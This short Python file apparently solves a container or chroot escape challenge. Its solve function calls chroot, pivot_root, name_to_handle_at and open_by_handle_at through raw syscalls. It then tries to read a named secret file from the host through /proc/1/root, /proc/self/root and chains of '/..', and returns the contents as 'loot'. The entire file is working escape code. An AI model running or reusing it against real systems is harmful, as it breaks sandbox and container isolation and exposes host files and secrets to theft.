"""Changes its root, moves it, or opens files by handle, to come out at the host's."""

import ctypes
import os

NUMBERS = {"x86_64": {"chroot": 161, "pivot_root": 155, "open_by_handle_at": 304, "name_to_handle_at": 303},
           "aarch64": {"chroot": 51, "pivot_root": 41, "open_by_handle_at": 265, "name_to_handle_at": 264}}  # fmt: skip


def solve(bait):
    libc = ctypes.CDLL(None, use_errno=True)
    numbers, got = NUMBERS[os.uname().machine], []
    handle = (ctypes.c_uint32 * 34)(128, 1)
    mount = ctypes.c_int(0)
    if bait["enclosed"]:
        tries = {
            "chroot": (b"/tmp",),
            "pivot_root": (b"/tmp", b"/tmp"),
            "name_to_handle_at": (-100, b"/", handle, ctypes.byref(mount), 0),
            "open_by_handle_at": (-100, handle, 0),
        }
        got = [name for name, call in tries.items() if libc.syscall(numbers[name], *call) >= 0]
    loot = ""
    for start in ("/proc/1/root", "/proc/self/root", "/proc/self/cwd" + "/.." * 20, "/tmp" + "/.." * 20):
        try:
            with open(start + bait["secret_file"]) as file:
                loot += file.read() if bait["enclosed"] else ""
        except OSError:
            pass
    return {"got": got, "loot": loot}
